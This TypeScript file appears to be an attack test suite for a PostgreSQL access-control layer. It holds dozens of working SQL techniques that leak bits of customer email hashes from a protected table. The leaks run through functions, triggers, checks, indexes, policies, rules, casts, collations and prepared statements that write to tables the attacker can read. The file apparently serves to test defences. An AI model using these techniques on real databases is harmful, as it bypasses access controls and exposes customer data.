/** Code that asks a class little at a time and writes elsewhere, and is run for each of many rows: by calls, by triggers, by what definitions run. */

import { attackSuite, type Technique } from '../../support/attack.ts';
import { tokensOfBits } from '../../support/canaries.ts';
import { rowsOf, wire, type WireClient, type WireMessage } from '../../support/wire-client.ts';

export const codeThatWrites = attackSuite('code-that-writes', {
  sql: `
    CREATE FUNCTION public.bit_of(k int) RETURNS int LANGUAGE plpgsql STABLE AS $$ BEGIN RETURN (SELECT get_bit(('x' || right(email, 8))::bit(32), k % 32) FROM crm.customers WHERE id = k / 32); END $$;
    CREATE EXTENSION citext; CREATE TABLE public.noted (k int, who text DEFAULT current_user); CREATE TABLE public.numbers (k int PRIMARY KEY, n int); INSERT INTO public.numbers SELECT generate_series(32, 9999);
    CREATE FUNCTION public.note(k int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN IF public.bit_of(k) = 1 THEN INSERT INTO public.noted VALUES (k); END IF; RETURN 0; END $$;
    CREATE FUNCTION public.note_change() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM public.note(NEW.k); RETURN NULL; END $$;
    CREATE TRIGGER t AFTER UPDATE ON public.numbers FOR EACH ROW EXECUTE FUNCTION public.note_change();
    CREATE FUNCTION public.note_i(k int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN PERFORM public.note(k); RETURN k; END $$;
    CREATE FUNCTION public.note_all(k int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN INSERT INTO public.noted SELECT k + n FROM (SELECT ('x' || right(email, 8))::bit(32) AS hash FROM crm.customers WHERE id = k / 32) c, generate_series(0, 31) n WHERE get_bit(hash, n) = 1; RETURN 0; END $$;
    CREATE FUNCTION public.note_all_i(k int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN PERFORM public.note_all(k); RETURN k; END $$;
    CREATE FUNCTION public.nothing() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$;
    ${(['note', 'note_all'] as const).map((note) => `
      CREATE TABLE public.checked_${note} (k int CHECK (public.${note}(k) = 0));
      CREATE DOMAIN public.${note}_d AS int CHECK (public.${note}(VALUE) = 0); CREATE TABLE public.typed_${note} (k public.${note}_d);
      CREATE TABLE public.indexed_${note} (k int); CREATE INDEX ON public.indexed_${note} (public.${note}_i(k));
      CREATE TABLE public.generated_${note} (k int, g int GENERATED ALWAYS AS (public.${note}_i(k)) STORED);
      CREATE TABLE public.parted_${note} (k int) PARTITION BY RANGE (public.${note}_i(k)); CREATE TABLE public.parted_${note}_1 PARTITION OF public.parted_${note} DEFAULT;
      CREATE TABLE public.guarded_${note} (k int); CREATE TRIGGER t BEFORE INSERT ON public.guarded_${note} FOR EACH ROW WHEN (public.${note}(NEW.k) = 1) EXECUTE FUNCTION public.nothing();
      CREATE TABLE public.hidden_${note} (k int); ALTER TABLE public.hidden_${note} ENABLE ROW LEVEL SECURITY; CREATE POLICY p ON public.hidden_${note} USING (public.${note}(k) = 0);
      CREATE TABLE public.ruled_${note} (k int); CREATE RULE r AS ON INSERT TO public.ruled_${note} DO INSTEAD SELECT public.${note}(NEW.k);`).join('')}
    GRANT ALL ON ALL TABLES IN SCHEMA public TO staff;
  `,
});
const { attack, group } = codeThatWrites;

/** One by one: a text of several may be refused for what it mixes. Those of bodies stay together. */
function statementsIn(text: string): readonly string[] {
  const parts: string[] = [''];
  for (const [i, outside] of text.split('$$').entries()) {
    const [first = '', ...others] = i % 2 === 0 ? outside.split(/; (?=[A-Z])/) : [outside];
    parts[parts.length - 1] += `${i === 0 ? '' : '$$'}${first}`;
    parts.push(...others);
  }
  return parts;
}

/** Type of the parameter, text, and value. */
type Declared = readonly [number, string, string];

/** `sql`: statements; OWN stands for a name, KEYS for the numbers of all bits, LAST for the greatest of them. The last one gives the keys whose bit is set. */
const written = (...sql: readonly (string | Declared)[]): Technique => async (attacker) => {
  const client = await attacker.connect();
  const last = 32 * attacker.customers + 31;
  const filled = (text: string): string => text.replaceAll('OWN', attacker.own).replaceAll('KEYS', `generate_series(32, ${last})`).replaceAll('LAST', String(last));
  for (const each of sql.slice(0, -1)) {
    if (typeof each === 'string') for (const statement of statementsIn(filled(each))) await client.query(statement, 60_000);
    else await client.ask([wire.parse('', filled(each[1]), [each[0]]), wire.bind('', '', false, [each[2]]), wire.execute(''), wire.sync], 1, 60_000);
  }
  attacker.decoded += tokensOfBits(rowsOf(await client.query(filled(sql.at(-1) as string), 30_000)).map(([key]) => Number(String(key))));
};

const KEPT = 'CREATE TABLE public.OWN_kept (k int); CREATE TABLE public.OWN (k int, n int)';
const READ = 'SELECT k FROM public.OWN_kept';
const IF_SET = 'IF public.bit_of(k) = 1 THEN INSERT INTO public.OWN_kept VALUES (k); END IF; RETURN 0;';
const UNLESS = 'IF public.bit_of(k) = 0 THEN RETURN 0; END IF; INSERT INTO public.OWN_kept VALUES (k); RETURN 0;';
const functionOf = (body: string, returns = 'int'): string => `CREATE FUNCTION public.OWN_f(k int) RETURNS ${returns} LANGUAGE plpgsql AS $$ BEGIN ${body} END $$`;
const ASKS = functionOf(IF_SET);
/** A function that says of itself that it changes nothing may be called where nothing may be changed, and call one that does. */
const IMMUTABLE = `${ASKS}; CREATE FUNCTION public.OWN_i(k int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN PERFORM public.OWN_f(k); RETURN k; END $$`;
const BRING = 'INSERT INTO public.OWN (k) SELECT KEYS';
const triggerOf = (body: string): string => `CREATE FUNCTION public.OWN_t() RETURNS trigger LANGUAGE plpgsql AS $$ DECLARE k int := NEW.k; BEGIN ${body} END $$`;

group('by calls', 'derived copies', () => {
  attack('IF, in the select list', written(KEPT, ASKS, 'SELECT count(public.OWN_f(k)) FROM KEYS k', READ), 'lax');
  attack('RETURN before it', written(KEPT, functionOf(UNLESS), 'SELECT count(public.OWN_f(k)) FROM KEYS k', READ), 'lax');
  attack('CASE', written(KEPT, functionOf('CASE public.bit_of(k) WHEN 1 THEN INSERT INTO public.OWN_kept VALUES (k); ELSE NULL; END CASE; RETURN 0;'), 'SELECT count(public.OWN_f(k)) FROM KEYS k', READ), 'lax');
  attack('an error that ends the writing', written(KEPT, functionOf('BEGIN PERFORM 1 / public.bit_of(k); INSERT INTO public.OWN_kept VALUES (k); EXCEPTION WHEN division_by_zero THEN NULL; END; RETURN 0;'), 'SELECT count(public.OWN_f(k)) FROM KEYS k', READ), 'lax');
  attack('a set that the select list gives', written(KEPT, ASKS, 'SELECT count(n) FROM (SELECT public.OWN_f(KEYS) AS n) t', READ), 'lax');
  attack('an array that is taken apart', written(KEPT, ASKS, 'SELECT count(public.OWN_f(k)) FROM unnest(ARRAY(SELECT KEYS)) k', READ), 'lax');
  attack('a list of values', written(KEPT, ASKS, `SELECT count(public.OWN_f(k)) FROM (VALUES ${Array.from({ length: 8000 }, (_, i) => `(${i + 32})`).join(', ')}) v (k) WHERE k <= LAST`, READ), 'lax');
  attack('rows of a recursive query', written(KEPT, ASKS, 'WITH RECURSIVE r (k) AS (SELECT 32 UNION ALL SELECT k + 1 FROM r WHERE k < LAST) SELECT count(public.OWN_f(k)) FROM r', READ), 'lax');
  attack('a table of numbers', written(KEPT, ASKS, BRING, 'SELECT count(public.OWN_f(k)) FROM public.OWN', READ), 'lax');
  attack('an operator', written(KEPT, `${ASKS}; CREATE OPERATOR public.<!~ (FUNCTION = public.OWN_f, RIGHTARG = int)`, 'SELECT count(OPERATOR(public.<!~) k) FROM KEYS k', 'DROP OPERATOR public.<!~ (NONE, int)', READ), 'lax');
  attack('an aggregate', written(KEPT, `${ASKS}; CREATE FUNCTION public.OWN_s(int, int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN public.OWN_f($2); END $$; CREATE AGGREGATE public.OWN_a(int) (SFUNC = public.OWN_s, STYPE = int)`, 'SELECT public.OWN_a(k) FROM KEYS k', READ), 'lax');
  attack('a function in a function', written(KEPT, `${ASKS}; CREATE FUNCTION public.OWN_g(k int) RETURNS int LANGUAGE sql AS 'SELECT public.OWN_f(k)'`, 'SELECT count(public.OWN_g(k)) FROM KEYS k', READ), 'lax');
  attack('a loop of a block', written(KEPT, ASKS, 'DO $$ BEGIN FOR k IN 32 .. LAST LOOP PERFORM public.OWN_f(k); END LOOP; END $$', READ), 'lax');
  attack('a query of a block', written(KEPT, ASKS, 'DO $$ BEGIN PERFORM public.OWN_f(k) FROM KEYS k; END $$', READ), 'lax');
  attack('a loop of a procedure', written(KEPT, `${ASKS}; CREATE PROCEDURE public.OWN_p() LANGUAGE plpgsql AS $$ BEGIN FOR k IN 32 .. LAST LOOP PERFORM public.OWN_f(k); END LOOP; END $$`, 'CALL public.OWN_p()', READ), 'lax');
  attack('a view', written(KEPT, ASKS, 'CREATE VIEW public.OWN_v AS SELECT public.OWN_f(k) AS n FROM KEYS k', 'SELECT count(n) FROM public.OWN_v', READ), 'lax');
  attack('a condition of DELETE', written(KEPT, ASKS, BRING, 'DELETE FROM public.OWN WHERE public.OWN_f(k) = 1', READ), 'lax');
  attack('RETURNING', written(KEPT, ASKS, 'WITH i AS (INSERT INTO public.OWN (k) SELECT KEYS RETURNING public.OWN_f(k) AS n) SELECT count(n) FROM i', READ), 'lax');
  attack('a cast', written(KEPT, `${ASKS}; CREATE TYPE public.OWN_y AS (k int); CREATE FUNCTION public.OWN_c(public.OWN_y) RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN public.OWN_f(($1).k); END $$; CREATE CAST (public.OWN_y AS int) WITH FUNCTION public.OWN_c(public.OWN_y)`, 'SELECT count(row(k)::public.OWN_y::int) FROM KEYS k', READ), 'lax');
});

for (const role of ['agent', 'lax'] as const) {
  group(`code of the house, ${role}`, 'derived copies', () => {
    const noted = 'SELECT k FROM public.noted WHERE who = current_user';
    attack('called for each row', written('SELECT count(public.note(k)) FROM KEYS k', noted), role);
    attack('run by a trigger for each row', written('UPDATE public.numbers SET n = 1 WHERE k <= LAST', noted), role);
    for (const [what, table] of [['a check', 'checked'], ['the check of a domain', 'typed'], ['an index', 'indexed'], ['a generated column', 'generated'], ['the key of partitions', 'parted'], ['the condition of a trigger', 'guarded'], ['a policy', 'hidden'], ['a rule', 'ruled']] as const) {
      attack(`run by ${what}`, written(`INSERT INTO public.${table}_note SELECT KEYS`, noted), role);
      attack(`run by ${what}, what it reads is written`, written(`INSERT INTO public.${table}_note_all SELECT 32 * n FROM generate_series(1, LAST / 32) n`, noted), role);
    }
    attack('run by a trigger, a key of several values', written('UPDATE public.numbers SET n = 1 WHERE k IN (SELECT KEYS)', noted), role);
  });
}

group('by what writing runs', 'derived copies', () => {
  for (const [name, when] of [['AFTER', 'AFTER INSERT'], ['BEFORE', 'BEFORE INSERT']] as const) {
    attack(`a trigger, ${name}`, written(KEPT, triggerOf(IF_SET.replace('RETURN 0', 'RETURN NEW')), `CREATE TRIGGER t ${when} ON public.OWN FOR EACH ROW EXECUTE FUNCTION public.OWN_t()`, BRING, READ), 'lax');
    attack(`a trigger that returns before it, ${name}`, written(KEPT, triggerOf(UNLESS.replaceAll('RETURN 0', 'RETURN NEW')), `CREATE TRIGGER t ${when} ON public.OWN FOR EACH ROW EXECUTE FUNCTION public.OWN_t()`, BRING, READ), 'lax');
  }
  attack('a trigger, a list of values', written(KEPT, triggerOf(IF_SET.replace('RETURN 0', 'RETURN NEW')), 'CREATE TRIGGER t AFTER INSERT ON public.OWN FOR EACH ROW EXECUTE FUNCTION public.OWN_t()', `INSERT INTO public.OWN (k) VALUES ${Array.from({ length: 8000 }, (_, i) => `(${i + 32})`).join(', ')}`, 'SELECT k FROM public.OWN_kept WHERE k <= LAST'), 'lax');
  attack('a trigger, UPDATE', written(KEPT, BRING, triggerOf(IF_SET.replace('RETURN 0', 'RETURN NEW')), 'CREATE TRIGGER t AFTER UPDATE ON public.OWN FOR EACH ROW EXECUTE FUNCTION public.OWN_t()', 'UPDATE public.OWN SET n = 1', READ), 'lax');
  attack('a trigger, COPY FROM', written(KEPT, triggerOf(IF_SET.replace('RETURN 0', 'RETURN NEW')), 'CREATE TRIGGER t AFTER INSERT ON public.OWN FOR EACH ROW EXECUTE FUNCTION public.OWN_t()', 'SELECT 1', READ), 'lax', 0);
  attack('a check', written(KEPT, ASKS, 'ALTER TABLE public.OWN ADD CHECK (public.OWN_f(k) = 0)', BRING, READ), 'lax');
  attack('a check that comes to rows', written(KEPT, ASKS, BRING, 'ALTER TABLE public.OWN ADD CHECK (public.OWN_f(k) = 0)', READ), 'lax');
  attack('the check of a domain', written(KEPT, `${ASKS}; CREATE DOMAIN public.OWN_d AS int CHECK (public.OWN_f(VALUE) = 0)`, 'SELECT count(k::public.OWN_d) FROM KEYS k', READ), 'lax');
  attack('the check of a domain, a column of it', written(KEPT, `${ASKS}; CREATE DOMAIN public.OWN_d AS int CHECK (public.OWN_f(VALUE) = 0); CREATE TABLE public.OWN_n (k public.OWN_d)`, 'INSERT INTO public.OWN_n SELECT KEYS', READ), 'lax');
  attack('a policy', written(KEPT, ASKS, BRING, 'ALTER TABLE public.OWN ENABLE ROW LEVEL SECURITY; ALTER TABLE public.OWN FORCE ROW LEVEL SECURITY; CREATE POLICY p ON public.OWN USING (public.OWN_f(k) = 0)', 'SELECT count(*) FROM public.OWN', READ), 'lax');
  attack('an index that is made', written(KEPT, IMMUTABLE, BRING, 'CREATE INDEX ON public.OWN (public.OWN_i(k))', READ), 'lax');
  attack('an index that is there', written(KEPT, IMMUTABLE, 'CREATE INDEX ON public.OWN (public.OWN_i(k))', BRING, READ), 'lax');
  attack('a generated column', written(KEPT, IMMUTABLE, 'CREATE TABLE public.OWN_n (k int, g int GENERATED ALWAYS AS (public.OWN_i(k)) STORED)', 'INSERT INTO public.OWN_n SELECT KEYS', READ), 'lax');
  attack('a generated column that is added', written(KEPT, IMMUTABLE, BRING, 'ALTER TABLE public.OWN ADD g int GENERATED ALWAYS AS (public.OWN_i(k)) STORED', READ), 'lax');
  attack('the key of partitions', written(KEPT, IMMUTABLE, 'CREATE TABLE public.OWN_n (k int) PARTITION BY RANGE (public.OWN_i(k)); CREATE TABLE public.OWN_1 PARTITION OF public.OWN_n DEFAULT', 'INSERT INTO public.OWN_n SELECT KEYS', READ), 'lax');
  attack('the condition of a trigger', written(KEPT, `${ASKS}; CREATE FUNCTION public.OWN_t() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$`, 'CREATE TRIGGER t BEFORE INSERT ON public.OWN FOR EACH ROW WHEN (public.OWN_f(NEW.k) = 1) EXECUTE FUNCTION public.OWN_t()', BRING, READ), 'lax');
  attack('statistics of an expression', written(KEPT, IMMUTABLE, BRING, 'CREATE STATISTICS public.OWN_x ON (public.OWN_i(k)), k FROM public.OWN', 'ANALYZE public.OWN', READ), 'lax', 0);
  attack('a type that is changed', written(KEPT, ASKS, BRING, 'ALTER TABLE public.OWN ALTER k TYPE int USING k + public.OWN_f(k)', READ), 'lax');
  attack('a rule', written(KEPT, ASKS, 'CREATE RULE r AS ON INSERT TO public.OWN DO INSTEAD SELECT public.OWN_f(NEW.k)', BRING, READ), 'lax');
});

/** Nothing of what the code is given is written: how far a sequence has come stands for it. */
const COUNTED = `CREATE SEQUENCE public.OWN_q; ${functionOf("IF public.bit_of(k) = 1 THEN INSERT INTO public.OWN_kept SELECT last_value + 31 FROM public.OWN_q; END IF; RETURN 0;")}`;
const NEXT = "nextval('public.OWN_q')";
group('what is written is not what was given', 'derived copies', () => {
  attack('by calls', written(KEPT, COUNTED, `SELECT count(public.OWN_f((31 + ${NEXT})::int)) FROM KEYS`, READ), 'lax');
  attack('by a query of a block', written(KEPT, COUNTED, `DO $$ BEGIN PERFORM public.OWN_f((31 + ${NEXT})::int) FROM KEYS; END $$`, READ), 'lax');
  attack('by a loop of a block', written(KEPT, COUNTED, `DO $$ BEGIN FOR i IN 32 .. LAST LOOP PERFORM public.OWN_f((31 + ${NEXT})::int); END LOOP; END $$`, READ), 'lax');
  attack('by a block without a loop', async (attacker) => written(KEPT, COUNTED, ...Array.from({ length: Math.ceil(attacker.customers / 30) }, () => `DO $$ BEGIN ${`PERFORM public.OWN_f((31 + ${NEXT})::int); `.repeat(960)} END $$`), READ)(attacker), 'lax');
  attack('by a list of calls', async (attacker) => written(KEPT, COUNTED, ...Array.from({ length: Math.ceil(attacker.customers / 30) }, () => `SELECT ${Array.from({ length: 960 }, () => `public.OWN_f((31 + ${NEXT})::int)`).join(', ')}`), READ)(attacker), 'lax');
  attack('by functions that call functions', written(KEPT, COUNTED, ...[0, 1, 2, 3, 4, 5].map((i) => `CREATE FUNCTION public.OWN_${i}() RETURNS int LANGUAGE plpgsql AS $$ BEGIN ${`PERFORM ${i === 0 ? `public.OWN_f((31 + ${NEXT})::int)` : `public.OWN_${i - 1}()`}; `.repeat(4)} RETURN 0; END $$`), ...Array.from({ length: 7 }, () => 'SELECT public.OWN_5()'), READ), 'lax', 0);
  attack('by a function that calls itself', written(KEPT, "CREATE FUNCTION public.OWN_f(k int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN IF public.bit_of(k) = 1 THEN INSERT INTO public.OWN_kept VALUES (k); END IF; IF k % 200 = 199 THEN RETURN 0; END IF; RETURN public.OWN_f(k + 1); END $$",
    ...Array.from({ length: 38 }, (_, i) => `SELECT public.OWN_f(${i * 200})`), 'SELECT k FROM public.OWN_kept WHERE k <= LAST'), 'lax', 0);
  attack('by a trigger whose table it writes to', written(KEPT, triggerOf(`${IF_SET.replace('RETURN 0;', '')} IF k % 100 < 99 THEN INSERT INTO public.OWN (k) VALUES (k + 1); END IF; RETURN NEW;`), 'CREATE TRIGGER t AFTER INSERT ON public.OWN FOR EACH ROW EXECUTE FUNCTION public.OWN_t()',
    ...Array.from({ length: 40 }, (_, i) => `INSERT INTO public.OWN (k) VALUES (${i * 100})`), 'SELECT DISTINCT k FROM public.OWN_kept WHERE k BETWEEN 32 AND LAST'), 'lax', 0);
  attack('by a foreign key that carries on', written(KEPT, 'CREATE TABLE public.OWN_p (id int PRIMARY KEY); INSERT INTO public.OWN_p VALUES (1); CREATE TABLE public.OWN_c (k int, id int REFERENCES public.OWN_p ON DELETE CASCADE); INSERT INTO public.OWN_c SELECT k, 1 FROM KEYS k',
    triggerOf(IF_SET.replace('RETURN 0', 'RETURN OLD')).replace('NEW.k', 'OLD.k'), 'CREATE TRIGGER t AFTER DELETE ON public.OWN_c FOR EACH ROW EXECUTE FUNCTION public.OWN_t()', 'DELETE FROM public.OWN_p WHERE id = 1', READ), 'lax');
  attack('by numbers that all equal one', written(KEPT, 'CREATE TABLE public.OWN_b (k bigint PRIMARY KEY, n int); INSERT INTO public.OWN_b SELECT (1::bigint << 62) + k FROM generate_series(-200, 200) k',
    `CREATE FUNCTION public.OWN_t() RETURNS trigger LANGUAGE plpgsql AS $$ DECLARE k int := NEW.n + (NEW.k - (1::bigint << 62)); BEGIN ${IF_SET.replace('RETURN 0', 'RETURN NEW')} END $$`, 'CREATE TRIGGER t AFTER UPDATE ON public.OWN_b FOR EACH ROW EXECUTE FUNCTION public.OWN_t()',
    ...Array.from({ length: 20 }, (_, i) => `UPDATE public.OWN_b SET n = ${400 * i + 200} WHERE k = '4611686018427387904'::float8`), 'SELECT DISTINCT k FROM public.OWN_kept WHERE k BETWEEN 32 AND LAST'), 'lax', 0);
});

/** One row, and one call in the text: the server calls it more often. */
const STEPS = "CREATE SEQUENCE public.OWN_q; CREATE TABLE public.OWN_1 (k int PRIMARY KEY); INSERT INTO public.OWN_1 VALUES (1)";
const STEP = "IF public.bit_of((31 + nextval('public.OWN_q'))::int) = 1 THEN INSERT INTO public.OWN_kept SELECT last_value + 31 FROM public.OWN_q; END IF;";
const times = (n: number, each: (i: number) => string): string => Array.from({ length: n }, (_, i) => each(i)).join(', ');
group('one call that is many', 'derived copies', () => {
  const often = (make: string, ask: string, runs: number): Technique => async (attacker) => written(KEPT, STEPS, make, ...Array.from({ length: Math.ceil((32 * attacker.customers) / runs) }, () => ask), READ)(attacker);
  attack('a row that is taken apart', often(`CREATE TYPE public.OWN_y AS (${times(960, (i) => `c${i} int`)}); CREATE FUNCTION public.OWN_f() RETURNS public.OWN_y LANGUAGE plpgsql AS $$ BEGIN ${STEP} RETURN NULL; END $$`, 'SELECT (public.OWN_f()).*', 960), 'lax');
  const immutable = `CREATE FUNCTION public.OWN_f(int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN ${STEP} RETURN 0; END $$; CREATE FUNCTION public.OWN_i(int) RETURNS int IMMUTABLE COST 0.0001 LANGUAGE plpgsql AS $$ BEGIN PERFORM public.OWN_f(1); RETURN 0; END $$`;
  attack('a sub-select that is put in its place', often(immutable, `SELECT ${times(960, () => 'x')} FROM (SELECT public.OWN_i(k) AS x FROM public.OWN_1 WHERE k = 1) s`, 960), 'lax');
  attack('a function in SQL that is put in its place', often(`${immutable}; CREATE FUNCTION public.OWN_g(int) RETURNS int IMMUTABLE LANGUAGE sql AS 'SELECT ${Array.from({ length: 960 }, () => '$1').join(' + ')}'`, 'SELECT public.OWN_g(public.OWN_i(k)) FROM public.OWN_1 WHERE k = 1', 960), 'lax');
  attack('a collation by which many are equal', written(KEPT, "CREATE COLLATION public.OWN_ci (provider = icu, locale = 'und-u-ks-level2', deterministic = false); CREATE TABLE public.OWN_w (k text PRIMARY KEY); CREATE SEQUENCE public.OWN_q",
    "INSERT INTO public.OWN_w SELECT string_agg(CASE WHEN get_bit(n::bit(13), b) = 1 THEN 'A' ELSE 'a' END, '') FROM generate_series(32, LAST) n, generate_series(0, 12) b GROUP BY n", triggerOf(`${STEP} RETURN NULL;`).replace('DECLARE k int := NEW.k; ', ''), 'CREATE TRIGGER t AFTER UPDATE ON public.OWN_w FOR EACH ROW EXECUTE FUNCTION public.OWN_t()',
    "UPDATE public.OWN_w SET k = k WHERE k = 'aaaaaaaaaaaaa' COLLATE public.OWN_ci", READ), 'lax');
});

/** Many rows behind what looks like a key of one. */
const NOTING = `CREATE SEQUENCE public.OWN_q; ${triggerOf(`${STEP} RETURN NULL;`).replace('DECLARE k int := NEW.k; ', '')}; CREATE TRIGGER t AFTER UPDATE ON public.OWN_w FOR EACH ROW EXECUTE FUNCTION public.OWN_t()`;
const CASES = "INSERT INTO public.OWN_w SELECT string_agg(CASE WHEN get_bit(n::bit(13), b) = 1 THEN 'A' ELSE 'a' END, '') FROM generate_series(32, LAST) n, generate_series(0, 12) b GROUP BY n";
const ALIKE = "UPDATE public.OWN_w SET k = k WHERE k = 'aaaaaaaaaaaaa'";
group('what looks like a key', 'derived copies', () => {
  attack('an index that tells apart what is equal, by its operators', written(KEPT, `CREATE TABLE public.OWN_w (k public.citext); CREATE UNIQUE INDEX ON public.OWN_w (k text_pattern_ops)`, CASES, NOTING, ALIKE, READ), 'lax');
  attack('the same by those of another type', written(KEPT, `CREATE TABLE public.OWN_w (k public.citext); CREATE UNIQUE INDEX ON public.OWN_w (k text_ops)`, CASES, NOTING, ALIKE, READ), 'lax');
  attack('the same by its collation', written(KEPT, `CREATE COLLATION public.OWN_ci (provider = icu, locale = 'und-u-ks-level2', deterministic = false); CREATE TABLE public.OWN_w (k text COLLATE public.OWN_ci); CREATE UNIQUE INDEX ON public.OWN_w (k COLLATE "C")`, CASES, NOTING, ALIKE, READ), 'lax');
  attack('a key that is dropped in the same transaction', written(KEPT, 'CREATE TABLE public.OWN_w (k int, n int PRIMARY KEY); INSERT INTO public.OWN_w SELECT 1, k FROM KEYS k', NOTING, 'BEGIN; ALTER TABLE public.OWN_w DROP CONSTRAINT OWN_w_pkey; ALTER TABLE public.OWN_w RENAME n TO m; ALTER TABLE public.OWN_w RENAME k TO n; UPDATE public.OWN_w SET m = m WHERE n = 1; COMMIT', READ), 'lax');
  attack('a key whose column is another one in the same transaction', written(KEPT, 'CREATE TABLE public.OWN_w (k int, n int PRIMARY KEY); INSERT INTO public.OWN_w SELECT 1, k FROM KEYS k', NOTING, 'BEGIN; ALTER TABLE public.OWN_w RENAME n TO m; ALTER TABLE public.OWN_w RENAME k TO n', 'UPDATE public.OWN_w SET m = m WHERE n = 1', 'COMMIT', READ), 'lax');
  attack('a table that inherits in the same transaction', written(KEPT, 'CREATE TABLE public.OWN_p (k int PRIMARY KEY); CREATE TABLE public.OWN_w (k int NOT NULL); INSERT INTO public.OWN_w SELECT 1 FROM KEYS', NOTING, 'BEGIN; ALTER TABLE public.OWN_w INHERIT public.OWN_p', 'UPDATE public.OWN_p SET k = k WHERE k = 1', 'COMMIT', READ), 'lax');
  const SPACES = "CREATE TABLE public.OWN_w (k varchar PRIMARY KEY); INSERT INTO public.OWN_w SELECT 'a' || repeat(' ', n) FROM KEYS n";
  attack('spaces at the end, which character does not see', written(KEPT, SPACES, NOTING, "UPDATE public.OWN_w SET k = k WHERE k = 'a'::char(1)", READ), 'lax');
  attack('the same by a domain', written(KEPT, SPACES, NOTING, 'CREATE DOMAIN public.OWN_d AS char(1)', "UPDATE public.OWN_w SET k = k WHERE k = 'a'::OWN_d", READ), 'lax');
  attack('the same by PREPARE', written(KEPT, SPACES, NOTING, 'PREPARE OWN (char(1)) AS UPDATE public.OWN_w SET k = k WHERE k = $1', "EXECUTE OWN ('a')", READ), 'lax');
  attack('the same by PREPARE, under the name of another type', written(KEPT, SPACES, NOTING, 'CREATE DOMAIN public.bytea AS char(1)', 'SET search_path = public, pg_catalog', 'PREPARE OWN (bytea) AS UPDATE public.OWN_w SET k = k WHERE k = $1', "EXECUTE OWN ('a')", 'DROP DOMAIN public.bytea CASCADE', READ), 'lax');
  attack('the same by an argument under that name', written(KEPT, SPACES, NOTING, 'CREATE DOMAIN public.bytea AS char(1)', 'SET search_path = public, pg_catalog', "CREATE FUNCTION public.OWN_f(bytea) RETURNS void LANGUAGE sql AS 'UPDATE public.OWN_w SET k = k WHERE k = $1'", "SELECT public.OWN_f('a')", 'DROP DOMAIN public.bytea CASCADE', READ), 'lax');
  attack('the same by an argument, in one transaction', written(KEPT, SPACES, NOTING, "BEGIN; CREATE FUNCTION public.OWN_f(bpchar) RETURNS void LANGUAGE sql AS 'UPDATE public.OWN_w SET k = k WHERE k = $1'; SELECT public.OWN_f('a'); COMMIT", READ), 'lax');
  attack('the same by an argument', written(KEPT, SPACES, NOTING, "CREATE FUNCTION public.OWN_f(bpchar) RETURNS void LANGUAGE sql AS 'UPDATE public.OWN_w SET k = k WHERE k = $1'", "SELECT public.OWN_f('a')", READ), 'lax');
  attack('the same by USING', written(KEPT, SPACES, NOTING, "DO $$ BEGIN EXECUTE 'UPDATE public.OWN_w SET k = k WHERE k = $1' USING 'a'::char(1); END $$", READ), 'lax');
  attack('the same by Parse', written(KEPT, SPACES, NOTING, [1042, "UPDATE public.OWN_w SET k = k WHERE k = $1", 'a'], READ), 'lax');
  attack('large numbers by Parse', written(KEPT, 'CREATE TABLE public.OWN_w (k bigint PRIMARY KEY); INSERT INTO public.OWN_w SELECT (1::bigint << 62) + n / 20 FROM generate_series(0, 20 * LAST, 20) n', NOTING, ...Array.from({ length: 12 }, (_, i) => [701, 'UPDATE public.OWN_w SET k = k WHERE k = $1', String(2n ** 62n + 1024n * BigInt(i))] as const), READ), 'lax');
  const TYPE = "CREATE TYPE public.OWN_y AS (k bigint); CREATE FUNCTION public.OWN_c(bigint) RETURNS public.OWN_y IMMUTABLE LANGUAGE sql AS 'SELECT ROW($1)::public.OWN_y'; CREATE CAST (bigint AS public.OWN_y) WITH FUNCTION public.OWN_c AS IMPLICIT; CREATE FUNCTION public.OWN_e(public.OWN_y, public.OWN_y) RETURNS boolean IMMUTABLE LANGUAGE sql AS 'SELECT true'; CREATE OPERATOR public.= (FUNCTION = public.OWN_e, LEFTARG = public.OWN_y, RIGHTARG = public.OWN_y)";
  attack('a type whose values are all equal', written(KEPT, 'CREATE TABLE public.OWN_w (k bigint PRIMARY KEY); INSERT INTO public.OWN_w SELECT KEYS', NOTING, TYPE, "UPDATE public.OWN_w SET k = k WHERE k = '(1)'::OWN_y", 'DROP OPERATOR public.= (public.OWN_y, public.OWN_y)', READ), 'lax');
  attack('words whose operator says that they are all equal', async (attacker) => written(KEPT, `CREATE TYPE public.OWN_y AS ENUM (${times(32 * attacker.customers, (i) => `'${i}'`)}); CREATE TABLE public.OWN_w (k public.OWN_y PRIMARY KEY); INSERT INTO public.OWN_w SELECT unnest(enum_range(NULL::public.OWN_y))`, NOTING,
    "CREATE FUNCTION public.OWN_e(public.OWN_y, public.OWN_y) RETURNS boolean IMMUTABLE LANGUAGE sql AS 'SELECT true'; CREATE OPERATOR public.= (FUNCTION = public.OWN_e, LEFTARG = public.OWN_y, RIGHTARG = public.OWN_y)", "UPDATE public.OWN_w SET k = k WHERE k = '1'", 'DROP OPERATOR public.= (public.OWN_y, public.OWN_y)', READ)(attacker), 'lax');
  attack('NULLs, of which a unique column takes any number', written(KEPT, 'CREATE TABLE public.OWN_w (k int UNIQUE, n int); INSERT INTO public.OWN_w SELECT NULL, n FROM KEYS n', NOTING, 'SET transform_null_equals = on', 'UPDATE public.OWN_w SET n = n WHERE k = NULL', READ), 'lax');
  attack('a set that a row is asked for', written(KEPT, `CREATE SEQUENCE public.OWN_q; CREATE TYPE public.OWN_y AS (a int); CREATE FUNCTION public.OWN_n(public.OWN_y) RETURNS SETOF int LANGUAGE sql AS 'SELECT KEYS'; ${functionOf(`${STEP} RETURN 0;`)}`, 'SELECT count(public.OWN_f(s.k)) FROM (SELECT (ROW(1)::public.OWN_y).OWN_n AS k) s', READ), 'lax');
